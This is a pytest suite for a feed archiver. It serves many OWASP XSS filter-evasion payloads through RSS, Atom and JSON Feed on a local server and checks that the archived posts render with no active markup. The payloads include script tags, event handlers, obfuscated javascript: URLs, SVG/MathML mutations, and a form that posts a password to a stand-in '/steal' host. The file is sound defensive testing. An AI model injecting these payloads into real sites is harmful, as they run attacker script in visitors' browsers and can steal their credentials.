"""The hostile-input suite: OWASP XSS filter-evasion payloads, end to end through
``scrapy crawl`` against a local server, in RSS, Atom and JSON Feed.

Every payload is served twice per format: as markup in an HTML-typed field (the body,
and the title where the format lets a title be HTML), and as escaped text shown in a
body and a title. One crawl archives all of them (one more with the body kept as HTML). Each written post body is rendered
as Hexo does (a CommonMark renderer with raw HTML on: markdown-it-py ``html=True``) and
the rendered HTML parsed: it must hold no active element, no ``on*`` attribute, no
``javascript:``/``vbscript:``/``data:text/html`` URL and no CSS ``expression(``; the
escaped-text cases must render to exactly the text they showed, in the post and in the
JSON feed's ``content_html``. Assertions are parametrized per case, so a failure names
the payload, its family, the format and the mode.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from html import escape
from typing import Any

import frontmatter
import lxml.html
import pytest
from markdown_it import MarkdownIt

from archiver.demo.site import Resource, SampleSite
from tests.support.crawl import CrawlResult, run_crawl

# Anything a payload points at that might be fetched stays on this machine.
EVIL = "http://127.0.0.1:9"

# family -> payloads (after the OWASP XSS Filter Evasion Cheat Sheet)
PAYLOADS: dict[str, list[str]] = {
    "script": [
        "<script>alert(1)</script>",
        f"<SCRIPT SRC={EVIL}/xss.js></SCRIPT>",
        f'<script/xss src="{EVIL}/xss.js"></script>',
        "<<script>alert(1);//<</script>",
        "<script>alert(1)//",
        "</title><script>alert(1)</script>",
        '<scr<script>ipt>alert(1)</script>',
        "<xss onafterscriptexecute=alert(1)><script>1</script>",
    ],
    "event-handler": [
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        "<body onload=alert(1)>",
        "<svg/onload=alert(1)>",
        '<div onmouseover="alert(1)">hover</div>',
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        '<video><source onerror="alert(1)"></video>',
        "<marquee onstart=alert(1)>m</marquee>",
        '<a href="https://ok.example/" onclick="alert(1)">ok</a>',
        '<img """><script>alert(1)</script>">',
        '<p onpointerenter=alert(1) ONCLICK=alert(2)>p</p>',
    ],
    "javascript-url": [
        '<a href="javascript:alert(1)">a</a>',
        '<img src="javascript:alert(1)">',
        '<iframe src="javascript:alert(1)"></iframe>',
        '<form action="javascript:alert(1)"><button>go</button></form>',
        '<button formaction="javascript:alert(1)">b</button>',
        '<video poster="javascript:alert(1)" src="javascript:alert(1)" controls></video>',
        '<audio src="javascript:alert(1)" controls></audio>',
        '<blockquote cite="javascript:alert(1)">quote</blockquote>',
        '<q cite="javascript:alert(1)">q</q>',
        '<table background="javascript:alert(1)"><tr><td>t</td></tr></table>',
        '<object data="javascript:alert(1)"></object>',
        '<link rel="stylesheet" href="javascript:alert(1)">',
        '<img src=`javascript:alert(1)`>',
        '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
    ],
    "vbscript-data-url": [
        '<a href="vbscript:msgbox(1)">vb</a>',
        '<img src="VBSCRIPT:msgbox(1)">',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
        '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
        '<a href="DATA:text/html,<script>alert(1)</script>">D</a>',
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    ],
    "obfuscated-scheme": [
        '<a href="jAvAsCrIpT:alert(1)">c</a>',
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">e</a>',
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
        ('<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
         '&#0000058alert(1)">z</a>'),
        '<a href="jav&#x09;ascript:alert(1)">t</a>',
        '<a href="jav&#x0A;ascript:alert(1)">n</a>',
        '<a href=" &#14;  javascript:alert(1)">s</a>',
        '<a href="javascript&colon;alert(1)">colon</a>',
        '<img src="jav\tascript:alert(1)">',
        '<a href="vbscript&#58;msgbox(1)">v</a>',
    ],
    "svg-mathml": [
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
        '<math href="javascript:alert(1)">CLICK</math>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    ],
    "style-expression": [
        '<div style="width: expression(alert(1))">css</div>',
        f"<style>@import '{EVIL}/x.css';</style>",
        '<style>body{background:url("javascript:alert(1)")}</style>',
        '<p style="background-image: url(javascript:alert(1))">bg</p>',
        '<img style="xss:expr/*XSS*/ession(alert(1))">',
        f'<link rel="stylesheet" href="{EVIL}/x.css">',
    ],
    "meta-base": [
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">',
        '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
        '<base href="javascript:alert(1)//">',
        f'<base href="{EVIL}/">',
    ],
    "form": [
        '<form><input type="submit" formaction="javascript:alert(1)"></form>',
        f'<form action="{EVIL}/steal" method="post"><input name="password" type="password"></form>',
        '<isindex action="javascript:alert(1)" type=image>',
        '<textarea autofocus onfocus=alert(1)>t</textarea>',
    ],
    "object-embed-iframe": [
        f'<object type="text/x-scriptlet" data="{EVIL}/x.html"></object>',
        f'<embed src="{EVIL}/x.swf">',
        '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
        f'<iframe src="{EVIL}/"></iframe>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<frameset><frame src="javascript:alert(1)"></frameset>',
        '<applet code="x.class"></applet>',
    ],
    "markdown-and-mutation": [
        "[click](javascript:alert(1))",
        "![img](javascript:alert(1))",
        "<javascript:alert(1)>",
        "[a]\n\n[a]: javascript:alert(1)",
        "<!--<img src=x onerror=alert(1)>-->",
        '<a href="https://ok.example/" title="x&quot; onmouseover=&quot;alert(1)">t</a>',
        '<img alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" src="x.png">',
        '<img alt="&lt;img src=x onerror=alert(1)&gt; `" src="a`b.png">',  # backticks pair across alt and URL
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "<template><script>alert(1)</script></template>",
        "*emphasis* _under_ `code` ~~strike~~ | pipe \\ backslash",
    ],
    # Attributes html-to-markdown writes out as text, and code spans whose backticks merge.
    "converter-quirks": [
        '<a href="https://ok.example/" title="&lt;img src=x onerror=alert(1)&gt;"><br></a>',
        '<a href="https://ok.example/&lt;img src=x onerror=alert(1)&gt;"><br></a>',
        '<abbr title="&lt;img src=x onerror=alert(1)&gt;">ab</abbr>',
        '<blockquote cite="https://ok.example/a&gt;&lt;img src=x onerror=alert(1)&gt;">q</blockquote>',
        "<p><code>a</code><kbd>`&lt;img src=x onerror=alert(1)&gt;</kbd></p>",
    ],
}
FORMATS = ("rss", "atom", "json")
MODES = ("markup", "text")


@dataclass(frozen=True)
class Case:
    family: str
    number: int
    payload: str
    format: str
    mode: str

    @property
    def id(self) -> str:
        return f"{self.format}-{self.mode}-{self.family}-{self.number}"

    @property
    def url_path(self) -> str:
        return f"/xss/{self.format}/{self.mode}/{self.family}/{self.number}"

    @property
    def marker(self) -> str:
        # Chinese and English in every post: the marker survives any payload.
        return f"Case {self.id} 案例"

    @property
    def shown_text(self) -> str:
        """What a text case shows, whitespace collapsed (what a renderer shows)."""
        return _collapsed(f"{self.marker}: {self.payload}")


def _collapsed(text: str) -> str:
    return re.sub(r"\s+", " ", text).strip()


CASES = [Case(family, number, payload, format_, mode)
         for format_ in FORMATS for mode in MODES
         for family, payloads in PAYLOADS.items() for number, payload in enumerate(payloads, 1)]


# --- the feeds ------------------------------------------------------------------------

def _body_html(case: Case) -> str:
    if case.mode == "markup":
        return f"<p>{case.marker}</p>{case.payload}<p>end of the hostile case 结束</p>"
    return f"<p>{escape(case.marker)}: {escape(case.payload)}</p>"


def _title(case: Case) -> tuple[str, str]:
    """The title as the format carries it, and its type ("html" or "text")."""
    if case.mode == "text":
        return f"{case.marker}: {case.payload}", "text"
    if case.format == "json":  # JSON Feed titles are plain text: no markup to carry
        return case.marker, "text"
    return f"{case.marker} {case.payload}", "html"


def _rss(base: str, cases: list[Case]) -> bytes:
    items = []
    for case in cases:
        title, kind = _title(case)
        # RSS titles are read as HTML (entity-encoded) by convention: text is escaped once more.
        title_xml = escape(escape(title) if kind == "text" else title)
        items.append(f"<item><title>{title_xml}</title><link>{base}{case.url_path}</link>"
                     f"<guid>{case.id}</guid><pubDate>Wed, 01 May 2024 08:00:00 GMT</pubDate>"
                     f"<description>{escape(_body_html(case))}</description></item>")
    return ('<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>hostile</title>'
            + "".join(items) + "</channel></rss>").encode()


def _atom(base: str, cases: list[Case]) -> bytes:
    entries = []
    for case in cases:
        title, kind = _title(case)
        entries.append(f'<entry><id>urn:{case.id}</id><link href="{base}{case.url_path}"/>'
                       f'<title type="{kind}">{escape(title)}</title><updated>2024-05-01T08:00:00Z</updated>'
                       f'<content type="html">{escape(_body_html(case))}</content></entry>')
    return ('<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title>hostile</title>'
            f'<id>urn:hostile</id><updated>2024-05-01T08:00:00Z</updated>{"".join(entries)}</feed>').encode()


def _json_feed(base: str, cases: list[Case]) -> bytes:
    items = [{"id": case.id, "url": f"{base}{case.url_path}", "title": _title(case)[0],
              "content_html": _body_html(case), "date_published": "2024-05-01T08:00:00Z"} for case in cases]
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "hostile", "items": items}).encode()


BUILDERS = {"rss": (_rss, "application/rss+xml"), "atom": (_atom, "application/atom+xml"),
            "json": (_json_feed, "application/feed+json")}


@dataclass
class Archive:
    result: CrawlResult
    posts: dict[str, frontmatter.Post]  # source_url path -> post
    feed_items: dict[str, dict[str, Any]]  # original url path -> JSON Feed item


@pytest.fixture(scope="module", params=["markdown", "html"])
def archive(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Archive]:
    """One crawl per ARCHIVER_BODY_FORMAT: a body kept as sanitized HTML goes through
    Hexo's Markdown renderer too."""
    tmp = tmp_path_factory.mktemp(f"xss-{request.param}")
    with SampleSite() as site:
        base = site.base_url
        lines = ["sources:"]
        for format_, (build, content_type) in BUILDERS.items():
            site.resources[f"/xss/{format_}.feed"] = Resource(
                build(base, [case for case in CASES if case.format == format_]), content_type)
            lines.append(f'  - {{name: xss-{format_}, url: "{base}/xss/{format_}.feed", fulltext: feed}}')
        sources = tmp / "sources.yml"
        sources.write_text("\n".join(lines) + "\n", encoding="utf-8")
        result = run_crawl("-a", f"sources={sources}", output=tmp / "out", timeout=600,
                           extra_settings={"ARCHIVER_FEED_MAX_ITEMS": "0", "ARCHIVER_BODY_FORMAT": request.param})
    out = tmp / "out"
    posts = {}
    for path in (out / "posts").rglob("*.md"):
        post = frontmatter.loads(path.read_text(encoding="utf-8"))
        posts[_path_of(str(post["source_url"]))] = post
    feed_items = {}
    for format_ in FORMATS:
        document = json.loads((out / "feeds" / f"xss-{format_}.json").read_text(encoding="utf-8"))
        for item in document["items"]:
            feed_items[_path_of(item.get("external_url") or item["url"])] = item
    yield Archive(result, posts, feed_items)


def _path_of(url: str) -> str:
    return "/xss/" + url.split("/xss/", 1)[1]


# --- what "safe" means ------------------------------------------------------------------

RENDERER = MarkdownIt("commonmark", {"html": True})
ACTIVE_ELEMENTS = {"script", "iframe", "object", "embed", "form", "style", "svg", "math", "base", "meta", "link",
                   "frame", "frameset", "applet", "input", "button", "textarea", "isindex", "template"}
BAD_SCHEME = re.compile(r"^(?:javascript|vbscript|data:text/html)", re.IGNORECASE)
# Attributes a browser follows or loads (alt and title text may say "javascript:").
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "cite", "srcset",
                  "lowsrc", "dynsrc", "codebase", "content", "srcdoc"}
# What browsers ignore inside a URL scheme: C0 controls and spaces.
URL_JUNK = re.compile(r"[\x00-\x20]")


def _problems(html: str) -> list[str]:
    """Everything active in a rendered page: elements, handlers, URLs, CSS expressions."""
    root = lxml.html.fragment_fromstring(html or "<p></p>", create_parent="div")
    found = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.split("}")[-1].lower()
        if tag in ACTIVE_ELEMENTS:
            found.append(f"<{tag}> element")
        for name, value in element.attrib.items():
            name = name.split("}")[-1].lower()
            if name.startswith("on"):
                found.append(f"{name} attribute on <{tag}>")
            if name in URL_ATTRIBUTES and BAD_SCHEME.match(URL_JUNK.sub("", value)):
                found.append(f"{name}={value!r} on <{tag}>")
            if name == "style" and "expression(" in re.sub(r"/\*.*?\*/|\s", "", value).lower():
                found.append(f"CSS expression in {name} on <{tag}>")
    return found


def _visible_text(html: str) -> str:
    root = lxml.html.fragment_fromstring(html or "<p></p>", create_parent="div")
    for block in root.iter("p", "li", "h1", "h2", "h3", "blockquote", "pre"):
        block.tail = " " + (block.tail or "")
    return _collapsed(root.text_content())


# --- the checks ---------------------------------------------------------------------------

def test_the_suite_is_large_and_the_crawl_is_clean(archive: Archive) -> None:
    assert len({(case.family, case.number, case.format) for case in CASES}) >= 150
    assert "Traceback" not in archive.result.log
    assert archive.result.error_lines == []
    assert archive.result.returncode == 0
    assert len(archive.posts) == len(CASES), sorted({case.url_path for case in CASES} - set(archive.posts))[:5]


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.id)
def test_post_renders_without_active_markup(archive: Archive, case: Case) -> None:
    post = archive.posts[case.url_path]
    rendered = RENDERER.render(post.content)
    assert _problems(rendered) == [], (case.payload, post.content)
    feed_html = archive.feed_items[case.url_path]["content_html"]
    assert _problems(feed_html) == [], (case.payload, feed_html)
    # The article's own text is all there.
    assert case.marker in _visible_text(rendered)


@pytest.mark.parametrize("case", [case for case in CASES if case.mode == "text"], ids=lambda case: case.id)
def test_text_renders_to_exactly_the_text_it_showed(archive: Archive, case: Case) -> None:
    post = archive.posts[case.url_path]
    assert _visible_text(RENDERER.render(post.content)) == case.shown_text, post.content
    assert _visible_text(archive.feed_items[case.url_path]["content_html"]) == case.shown_text
    assert post["title"] == case.shown_text
    assert archive.feed_items[case.url_path]["title"] == case.shown_text
    assert post["description"] == case.shown_text


@pytest.mark.parametrize("case", [case for case in CASES if case.mode == "markup"], ids=lambda case: case.id)
def test_markup_title_is_plain_text(archive: Archive, case: Case) -> None:
    title = str(archive.posts[case.url_path]["title"])
    assert title.startswith(case.marker)
    if "<" in lxml.html.fragment_fromstring(case.payload, create_parent="div").text_content():
        # The markup itself shows "<...>" as text (escaped inside it): that text is kept.
        return
    # Printed unescaped by a theme (many Hexo themes do), the title is harmless.
    assert _problems(f"<p>{title}</p>") == [], title
    if case.format == "atom":
        # Declared HTML (type="html"): only its text is left, no element at all. An RSS
        # title's type is feedparser's guess, and "The <blink> tag" read as text stays.
        parsed = lxml.html.fragment_fromstring(f"<p>{title}</p>", create_parent="div")
        assert [element.tag for element in parsed.iter()] == ["div", "p"], title
